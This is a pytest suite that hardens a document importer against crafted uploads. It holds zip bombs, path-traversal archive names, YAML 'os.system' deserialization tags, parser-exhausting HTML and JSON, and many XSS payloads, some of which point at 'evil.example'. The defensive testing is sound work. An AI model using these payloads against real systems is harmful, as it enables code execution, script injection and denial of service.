"""Files made to do harm: what comes in is clean, or refused with advice, and costs little either way."""

from __future__ import annotations

import io
import json
import re
import resource
import stat
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from bs4 import BeautifulSoup

from dermatome.databases import LIBRARY
from dermatome.errors import ImportFailed
from dermatome.library.contract import article_contract
from dermatome.library.importing import LIMITS, parse_articles
from dermatome.library.markup import MAX_PASSAGE, MAX_PASSAGES
from dermatome.library.mentions import find_mentions
from dermatome.library.records import Article
from dermatome.library.render import linked_html, section_html
from dermatome.library.store import Store, import_into
from tests.browser import PROJECT

MEMORY_MB = 700
"""More than any of these may take; reading the largest allowed file takes most of it."""
SECONDS = 60
"""Of the processor, many times what is needed: it tells a search without end from a slow machine."""


def zipped(*members: tuple[str | zipfile.ZipInfo, bytes | str], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", packing) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return stream.getvalue()


def lying(data: bytes, size: int) -> bytes:
    """Return a zip file of one member whose headers claim another size."""
    told = bytearray(data)
    listed = told.index(b"PK\x01\x02")
    told[22:26] = told[listed + 24 : listed + 28] = size.to_bytes(4, "little")
    return bytes(told)


def overlapping(copies: int) -> bytes:
    """Return a zip file whose members all point at the same packed bytes."""
    told = zipped(("a.txt", b"a" * 1_000_000))
    start, end = told.index(b"PK\x01\x02"), told.index(b"PK\x05\x06")
    listed, tail = told[start:end], bytearray(told[end:])
    tail[8:10] = tail[10:12] = copies.to_bytes(2, "little")
    tail[12:16] = (copies * len(listed)).to_bytes(4, "little")
    names = [listed.replace(b"a.txt", b"%c.txt" % (97 + number % 26)) for number in range(copies)]
    return told[:start] + b"".join(names) + bytes(tail)


def nested(levels: int) -> bytes:
    data = zipped(("inner.txt", b"The S1 root. " * 80_000))
    for _ in range(levels):
        data = zipped(("inner.txt", data), ("inner.zip", data), packing=zipfile.ZIP_STORED)
    return data


def read(data: bytes, name: str = "upload") -> list[Article]:
    return list(parse_articles(data, name))


def one(text: str, name: str = "page.html") -> Article:
    (article,) = read(text.encode("utf-8", "surrogatepass"), name)
    return article


def all_text(article: Article) -> str:
    parts = [part for s in article.sections for part in (s.heading, *(p.text for p in s.passages))]
    return "\n".join([article.title, *parts])


# ------------------------------------------------------------------ zip files


@pytest.mark.slow
@pytest.mark.parametrize(
    ("made", "says"),
    [
        (lambda: zipped(("a.txt", b"a" * 50_000_000)), "times its size"),
        (lambda: zipped(*((f"{n}.txt", b"a" * 1_000_000) for n in range(300))), "times its size"),
        (
            lambda: zipped(*((f"{n}.txt", "") for n in range(LIMITS.archive_files + 1))),
            "more than 10,000 files",
        ),
        (lambda: lying(zipped(("a.txt", b"a" * 50_000_000)), 1_000), "damaged"),
        (lambda: zipped(("a.txt", b"a" * 1_000), packing=zipfile.ZIP_BZIP2), "unusual way"),
        (lambda: zipped(("a.txt", b"a" * 1_000), packing=zipfile.ZIP_LZMA), "unusual way"),
        (lambda: nested(3), "no article"),
        (lambda: zipped(("a.txt", b"x"))[:-10], "damaged"),
    ],
    ids=["big", "wide", "many", "claims less", "bzip2", "lzma", "nested", "cut"],
)
def test_bombs_are_refused(made: Callable[[], bytes], says: str) -> None:
    with pytest.raises(ImportFailed, match=says):
        read(made(), "bomb.zip")


def test_members_that_share_their_bytes_are_refused() -> None:
    with pytest.raises(ImportFailed, match=r"times its size|damaged"):
        read(overlapping(400), "bomb.zip")


@pytest.mark.parametrize(
    "name",
    [
        "../a.txt",
        "a/../../a.txt",
        "/etc/a.txt",
        "\\\\host\\share\\a.txt",
        "..\\a.txt",
        "C:/a.txt",
        "a/..\\a.txt",
    ],
)
def test_names_that_lead_outside_are_refused(name: str) -> None:
    member = zipfile.ZipInfo("a")
    member.filename = name
    with pytest.raises(ImportFailed, match="outside"):
        read(zipped((member, "The S1 root.")), "all.zip")


def test_links_in_an_archive_are_left_alone() -> None:
    link = zipfile.ZipInfo("link.txt")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    articles = read(zipped((link, "/etc/passwd"), ("real.txt", "The S1 root.")), "all.zip")
    assert [all_text(article) for article in articles] == ["Real\n\nThe S1 root."]


@pytest.mark.parametrize(
    "name",
    [
        "n" * 60_000 + ".txt",
        "d/" * 20_000 + "a.txt",
        "a\x00.txt",
        "a\u202egnp.txt",
        "line\nbreak.txt",
        "<b>.txt",
    ],
)
def test_odd_names_are_told_on_one_short_line(name: str) -> None:
    member = zipfile.ZipInfo("a.txt")
    member.filename = name
    skipped: list[str] = []
    data = zipped((member, "{"), ("good.txt", "The S1 root."))
    articles = list(parse_articles(data, name, skipped=skipped))
    assert "The S1 root." in all_text(articles[-1])
    for told in (*skipped, *(article.title for article in articles)):
        assert len(told) < 500 and told.isprintable()
    assert all(re.fullmatch(r"imported-[a-z0-9-]{1,90}", article.id) for article in articles)


# ------------------------------------------------------------------ encodings, sizes, depths


@pytest.mark.parametrize(
    "data",
    [
        b"\xff\xfe\x00\xd8\x00\xd8The",
        b"The S1 root \xe9\xe8 \x81\x8d\x9d.",
        "The S1 root.".encode("utf-16-be"),
        b"The S1\x00 root\x00.\x00",
        b"\xef\xbb\xbf\xef\xbb\xbfThe S1 root.",
        "The \u202eS1\u202c \u2066root\u2069.".encode(),
        b"\xed\xa0\x80 The S1 root.",
    ],
)
def test_wrong_encodings_are_read_cleanly_or_refused(data: bytes) -> None:
    try:
        (article,) = read(data, "a.txt")
    except ImportFailed as error:
        assert str(error).isprintable()
        return
    told = all_text(article)
    assert told.replace("\n", "").isprintable()
    told.encode("utf-8")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("data", "name", "says"),
    [
        (b"word " * 2_097_152, "line.txt", "at most 8 MB"),
        (b"[" * 2_000_000, "deep.json", "nested too deeply"),
        (b'{"content":' * 200_000, "deep.json", "nested too deeply"),
        (b"[" + b"[]," * 3_000_000 + b"[]]", "wide.json", "JSON values"),
        (b"[" + b"1," * 4_000_000 + b"1]", "wide.json", "JSON values"),
        (b"<html>" + b"<div>" * 500_000, "deep.html", "deep"),
        (b"<html>" + b"<span><div></span></div>" * 100_000, "crossed.html", "deep"),
        (b"<html>" + b"<div><!--</div>-->" * 100_000, "hidden.html", "deep"),
        (b"<html>" + b"<div><a title='</div>'>" * 100_000, "hidden.html", "deep"),
        (b"<html>" + b"<div><script><!--<script></script></div></script>" * 50_000, "hidden.html", "deep"),
        (b"<html>" + b"<div><title></div></title>" * 50_000, "hidden.html", "deep"),
        (b"<html>" + b"<div><table></div></table>" * 100_000, "fostered.html", "deep"),
        (b"<html>" + b"<rt>" * 1_000_000, "ruby.html", "deep"),
        (b"<html>" + b"<optgroup>" * 500_000, "groups.html", "deep"),
        (b"<html>" + b"<cite>" * 1_900 + b"<div>x</div>" * 15_000, "inline.html", "deep"),
        (b"<html>" + b"<p>a" * 2_000_000, "wide.html", "more elements"),
        (b"<html>" + b"<p>a" * (MAX_PASSAGES + 10), "wide.html", "paragraphs"),
        (b"<html><p>" + b"<br>- x" * 100_000, "wide.html", "paragraphs"),
        (b"# T\n\n|a|b|\n|-|-|\n" + b"|a|b|\n" * 1_100_000, "table.md", "paragraphs"),
        (b"# T\n\n" + b"[a]: b\n" * 1_000_000, "links.md", "paragraphs"),
        (b"a\n" * 4_000_000, "lines.txt", "paragraphs"),
        (b"A\n\n" * 2_600_000, "lines.txt", "paragraphs"),
    ],
)
def test_what_no_article_is_like_is_refused(data: bytes, name: str, says: str) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_utime
    with pytest.raises(ImportFailed, match=says) as refused:
        read(data, name)
    assert "\n" not in str(refused.value) and len(str(refused.value)) < 300
    assert resource.getrusage(resource.RUSAGE_SELF).ru_utime - before < SECONDS


FORMATTING = ["b", "big", "code", "em", "font", "i", "s", "small", "strike", "strong", "tt", "u"]

COSTLY = {
    "attributes.html": "<html><p>" + "".join(f"<b a={n}>" for n in range(1_500)) + "</p>" + "<p>x" * 19_000,
    "reopened.html": "<html><p>" + "".join(f"<{tag}>" * 3 for tag in FORMATTING) + "</p>" + "<p>x" * 19_000,
    "fenced.html": "<html><p><table>"
    + "".join(f"<{tag}><td></{tag}>" * 3 for tag in FORMATTING)
    + "</table></p>"
    + "<p>x" * 19_000,
    "quotes.html": "<html>" + "<b a=\"><b a='>x" * 400_000,
    "meta.html": "<html><p>x" + '<meta a="' * 250_000,
    "spaces.html": "<html><b a" + "= " * 3_500_000 + ">x",
    "comments.html": "<html>x" + "<!-->" * 1_500_000,
    "brackets.md": "# T\n\n" + ("[" * 1_990 + "\n\n") * 3_900,
    "stars.md": "# T\n\n" + ("*a_b" * 490 + "\n\n") * 3_900,
    "merged.md": "---\na0: &a0 {x: 1}\n"
    + "".join(f"a{n + 1}: &a{n + 1} {{<<: [*a{n}, *a{n}]}}\n" for n in range(40))
    + "---\n\nThe S1 root.\n",
    "aliases.md": "---\na: &a [x]\n"
    + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(20))
    + "title: *u\n---\n\nThe S1 root.\n",
    "headings.md": "# same\n\n" * 9_000,
    "shortcodes.html": "<html><p>" + "[vc_a " * 1_200_000,
    "words.txt": "S1 L5 " * 1_300_000,
}
_CHILD = """
import pathlib, re, resource, sys
from dermatome.errors import ImportFailed
from dermatome.library.importing import parse_articles
data = sys.stdin.buffer.read()
try:
    told = sum(len(article.passages) for article in parse_articles(data, sys.argv[1]))
except ImportFailed as error:
    told = str(error)
# The resident set that getrusage tells is that of whoever started this process, if it was larger.
peak = re.search(r"VmHWM:\\s+(\\d+)", pathlib.Path("/proc/self/status").read_text())[1]
print(int(peak) // 1024, told)
"""


@pytest.mark.slow
@pytest.mark.parametrize("name", COSTLY)
def test_no_page_costs_much_time_or_memory(name: str) -> None:
    def bounded() -> None:
        resource.setrlimit(resource.RLIMIT_CPU, (SECONDS, SECONDS))
        resource.setrlimit(resource.RLIMIT_AS, (3 * 2**30, 3 * 2**30))

    ran = subprocess.run(
        [sys.executable, "-c", _CHILD, name],
        input=COSTLY[name].encode(),
        capture_output=True,
        check=False,
        cwd=PROJECT,
        preexec_fn=bounded,
    )
    assert ran.returncode == 0, ran.stderr.decode()[-500:]
    megabytes, told = ran.stdout.decode().split(" ", 1)
    assert int(megabytes) < MEMORY_MB, told


def test_a_long_line_becomes_passages_without_losing_a_word() -> None:
    words = " ".join(f"word{n}" for n in range(50_000))
    article = one(f"<html><body><p><b>{words}</b></p>")
    assert len(article.passages) > 20
    assert max(len(passage.text) for passage in article.passages) <= MAX_PASSAGE
    assert re.findall(r"word\d+", " ".join(passage.text for passage in article.passages)) == words.split()


def test_a_word_without_end_and_a_heading_without_end_are_cut() -> None:
    article = one(f"# {'x' * 90_000}\n\nThe S1 root.", "a.md")
    assert len(article.title) <= 300
    assert all(len(section.heading) <= 1_000 for section in article.sections)
    assert sum(passage.text.count("x") for passage in article.passages) == 90_000


def test_linking_many_mentions_stays_quick() -> None:
    article = one("<html><p>" + "<b>S1</b> <i>L5</i> " * 3_000)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_utime
    html = "".join(linked_html(passage, find_mentions(passage.text)) for passage in article.passages)
    assert html.count('class="mention"') > 1_000
    assert resource.getrusage(resource.RUSAGE_SELF).ru_utime - before < SECONDS


@pytest.mark.slow
def test_an_import_of_too_much_is_refused_as_a_whole(tmp_path: Path) -> None:
    posts = json.dumps([{"content": "<p>x</p>", "title": f"t{n}"} for n in range(LIMITS.articles + 1)])
    with Store.open(tmp_path) as store:
        with pytest.raises(ImportFailed, match="more than 10,000 articles"):
            import_into(store, parse_articles(posts.encode(), "posts.json"))
        assert store.articles() == ()


# ------------------------------------------------------------------ JSON and front matter


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ('{"content": "One.", "content": "The S1 root."}', "The S1 root."),
        ('{"content": "The S1 root.", "title": NaN, "date": -Infinity, "link": 1e999}', "The S1 root."),
        ('{"content": "The S1 root.", "id": ' + "9" * 500_000 + "}", "The S1 root."),
        ('{"content": "The \\ud800S1 root.\\u0000", "title": ["x"]}', "S1 root."),
        ('{"content": {"rendered": "The S1 root."}, "guid": {"rendered": {"rendered": {}}}}', "The S1 root."),
    ],
)
def test_odd_json_is_read(text: str, wanted: str) -> None:
    article = one(text, "post.json")
    assert wanted in all_text(article)
    json.dumps(article_contract(article), allow_nan=False).encode()


def test_markup_in_the_fields_of_a_post_is_no_markup() -> None:
    post = {
        "title": {"rendered": "<script>alert(1)</script>S1 <img src=x onerror=alert(1)>&lt;b&gt;notes"},
        "link": "javascript:alert(1)",
        "guid": {"rendered": 'https://a.example/"onmouseover="alert(1)'},
        "slug": "../../../etc/passwd",
        "lang": '"><script>',
        "date": "<b>2025-01-01",
        "excerpt": {"rendered": "<svg onload=alert(1)>x"},
        "content": {"rendered": "<p>The S1 root.</p>"},
    }
    article = one(json.dumps(post), "post.json")
    assert (article.title, article.source, article.date) == ("S1 <b>notes", "", "")
    assert re.fullmatch(r"imported-[a-z0-9-]+", article.id)
    assert "<" not in article.language + article.summary


@pytest.mark.parametrize(
    "front",
    [
        "title: !!python/object/apply:os.system ['touch {path}']",
        "title: !!python/object/new:os.system ['touch {path}']",
        "!!python/name:os.system : x",
        "title: !!int ''",
        "title: !!bool maybe",
        "title: !!timestamp never",
        "title: !!binary '*'",
        "title: 0x" + "f" * 20_000,
        "title: " + "1:" * 20_000 + "1",
        "0x" + "f" * 20_000 + ": x",
        "? [a, b]\n: x",
        "date: 2001-01-01 00:00:00 +99:99",
        "a: &a [*a]",
        "a: " + "[" * 20_000,
        "<<: x",
        "title: \x07",
    ],
)
def test_front_matter_makes_nothing_but_text(front: str, tmp_path: Path) -> None:
    made = tmp_path / "made"
    article = one(f"---\n{front.replace('{path}', str(made))}\n---\n\n# Notes\n\nThe S1 root.\n", "a.md")
    assert "The S1 root." in all_text(article)
    assert not made.exists()
    assert len(article.title) <= 300


# ------------------------------------------------------------------ markup

TRICKS = [
    '<p style="position:fixed;inset:0;z-index:9999">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    "<style>@import '//evil.example';*{display:none}</style>",
    '<base href="//evil.example/">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<link rel=stylesheet href="//evil.example">',
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<table><caption><svg><title><template><style></svg><img src=x onerror=alert(1)>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<a href='x' target='_top' ping='//evil.example' download onclick='alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\u0001javascript:alert(1)'>x</a>",
    "<a href='jav&Tab;ascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:x'>x</a><a href='file:///etc/passwd'>x</a><a href='blob:x'>x</a>",
    "<a href='article:s1' class=mention data-root=S1>x</a>",
    "<img srcset='//evil.example 1x' src=x><picture><source srcset=//evil.example></picture>",
    "<form action=//evil.example><input type=password><button formaction=javascript:alert(1)>x</form>",
    "<details open ontoggle=alert(1)>x</details><video onerror=alert(1)><source></video>",
    '<b a="1\'>" c=\'2">\'>x</b><b ="><img src=x onerror=alert(1)>">x</b>',
    "<x onclick=alert(1) contenteditable tabindex=1 onfocus=alert(1) autofocus>x</x>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><portal src=x></portal>",
    "\u202e<b>gnp.exe</b>\u2066",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]><?php echo 1 ?><% x %>",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    '[x]: javascript:alert(1) "t"\n\n[x]',
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "`<img src=x onerror=alert(1)>`",
]


def clean(article: Article) -> Iterator[str]:
    for section in article.sections:
        for tag in BeautifulSoup(section_html(section), "html.parser").find_all(True):
            assert tag.name in {
                *("p", "ul", "ol", "li", "table", "tr", "td", "th", "blockquote", "pre", "br"),
                *("strong", "em", "a", "sub", "sup", "code"),
            }
            assert set(tag.attrs) <= {"id", "href", "start", "class"}
            assert tag.get("class") in (None, ["caption"])
            assert re.fullmatch(r"(https?://|mailto:).*", str(tag.get("href", "mailto:")))
        yield section_html(section)


@pytest.mark.parametrize("trick", TRICKS)
def test_tricks_in_html_leave_nothing_behind(trick: str) -> None:
    page = f"<html><body><p>The S1 root.</p><div>{trick}</div></body></html>"
    for article in (one(page), one(json.dumps({"content": page}), "post.json")):
        html = "".join(clean(article))
        assert "The S1 root." in html
        assert "evil.example" not in html.replace("//evil.example&#x27;", "")
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", all_text(article))


@pytest.mark.parametrize("trick", [*MARKDOWN, *TRICKS])
def test_tricks_in_markdown_leave_nothing_behind(trick: str) -> None:
    article = one(f"# Notes\n\nThe S1 root.\n\n{trick}\n\n## More\n\nText.\n", "notes.md")
    html = "".join(clean(article))
    assert "The S1 root." in html
    assert "evil.example" not in str(BeautifulSoup(html, "html.parser").find_all(True, href=True))


def test_attributes_of_formatting_are_taken_away_without_a_word() -> None:
    article = one('<html><p>a <b title="x > y" class=z>bold</b> <i data-x=\'">\'>slanted</i><u a="b">u</u> c')
    assert [passage.text for passage in article.passages] == ["a bold slantedu c"]
    assert "<strong>bold</strong> <em>slanted</em>" in section_html(article.sections[0])


# ------------------------------------------------------------------ the library afterwards


@pytest.mark.parametrize(
    "data",
    [
        zipped(("../evil.txt", "x")),
        zipped(("bomb.txt", b"a" * 5_000_000)),
        zipped(("odd.txt", "x" * 99), packing=zipfile.ZIP_LZMA),
        b'{"broken": ',
        b"<html>" + b"<div>" * 5_000,
    ],
)
def test_a_refused_file_leaves_the_library_as_it_was(tmp_path: Path, data: bytes) -> None:
    home = tmp_path / "home"
    with Store.open(home / "library") as store:
        store.save_all(read(b"# Kept\n\nThe S1 root.", "kept.md"))
        before = [(article.id, store.get(article.id)) for article in store.articles()]
        with pytest.raises(ImportFailed):
            import_into(store, parse_articles(data, "../../evil.zip"))
        assert [(article.id, store.get(article.id)) for article in store.articles()] == before
    assert [path.name for path in tmp_path.iterdir()] == ["home"]
    assert [path.name for path in home.iterdir()] == ["library"]
    assert {path.name for path in (home / "library").iterdir()} <= {
        LIBRARY.file_name,
        f"{LIBRARY.file_name}-wal",
        f"{LIBRARY.file_name}-shm",
    }
